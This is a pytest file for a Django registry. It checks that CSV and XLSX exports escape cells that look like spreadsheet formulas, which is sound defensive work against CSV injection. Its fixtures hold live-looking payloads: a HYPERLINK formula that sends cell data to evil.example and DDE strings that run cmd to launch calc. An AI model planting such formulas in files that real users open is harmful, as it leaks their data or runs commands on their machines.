"""A text that looks like a spreadsheet formula is exported as text, in every CSV and XLSX the registry hands out.

Spreadsheet programs run a cell that starts with =, +, -, @ (or a tab or carriage return before one) as a formula;
such a cell is prefixed with a single quote, the OWASP advice for CSV injection. Numbers stay numbers.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import User

from measures.models import Measure
from measures.resources import MeasureResource
from measures.review import SHELL
from measures.text.formulae import escape_formula, unescape_formula
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRAPS = {
    "title": FORMULA,
    "title_en": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def trapped(registry):
    """A published measure whose texts are formulae, with a target whose value is negative."""
    measure = registry["ai_platform"]
    for field, value in TRAPS.items():
        setattr(measure, field, value)
    measure.save()
    factories.TargetFactory(slug="a-fall", source=registry["plan"], measure=measure, value=-5)
    return measure


def csv_rows(body):
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def assert_escaped(row):
    for field, value in TRAPS.items():
        assert row[field] == "'" + value, field


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("中关村 = 1", "中关村 = 1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_the_escape(value, escaped):
    assert escape_formula(value) == escaped
    assert unescape_formula(escaped) == value


def test_api_csv_list(api_client, trapped):
    response = api_client.get("/api/v1/measures/?format=csv")
    rows = {row["slug"]: row for row in csv_rows(b"".join(response.streaming_content))}
    assert_escaped(rows["ai-platform"])
    targets = {row["slug"]: row for row in csv_rows(b"".join(api_client.get("/api/v1/targets/?format=csv")))}
    assert targets["a-fall"]["value"].startswith("-5")


def test_api_csv_of_one_record(api_client, trapped):
    response = api_client.get("/api/v1/measures/ai-platform/?format=csv")
    assert response.status_code == 200, response.content
    [row] = csv_rows(response.content)
    assert_escaped(row)


def test_registry_download(api_client, trapped):
    archive = zipfile.ZipFile(io.BytesIO(api_client.get("/api/v1/export/").content))
    rows = {row["slug"]: row for row in csv_rows(archive.read("measures.csv"))}
    assert_escaped(rows["ai-platform"])
    targets = {row["slug"]: row for row in csv_rows(archive.read("targets.csv"))}
    assert targets["a-fall"]["value"].startswith("-5")


@pytest.fixture
def curator(api_client, trapped):
    api_client.force_login(User.objects.create_superuser("curator", password="pw-for-tests-only"))
    return api_client


def admin_export(api_client, file_format):
    chosen = {f"measureresource_{name}": "on" for name in ("slug", *TRAPS)}
    response = api_client.post("/admin/measures/measure/export/", {"format": file_format, **chosen})
    assert response.status_code == 200
    return response.content


def test_admin_csv_export(curator):
    rows = {row["slug"]: row for row in csv_rows(admin_export(curator, "0"))}
    assert_escaped(rows["ai-platform"])


def test_admin_xlsx_export(curator):
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(curator, "1"))).active
    header = [cell.value for cell in sheet[1]]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[header.index("slug")].value == "ai-platform"]
    for field, value in TRAPS.items():
        cell = row[header.index(field)]
        assert cell.data_type != "f" and cell.value == "'" + value, field


def test_an_exported_file_imports_back_unchanged(trapped):
    exported = MeasureResource().export(queryset=Measure.objects.filter(slug="ai-platform")).csv
    Measure.objects.filter(slug="ai-platform").update(title="改过的标题")
    result = MeasureResource().import_data(tablib.Dataset().load(exported, format="csv"), raise_errors=True, user=SHELL)
    assert not result.has_validation_errors()
    measure = Measure.objects.get(slug="ai-platform")
    assert {field: getattr(measure, field) for field in TRAPS} == TRAPS
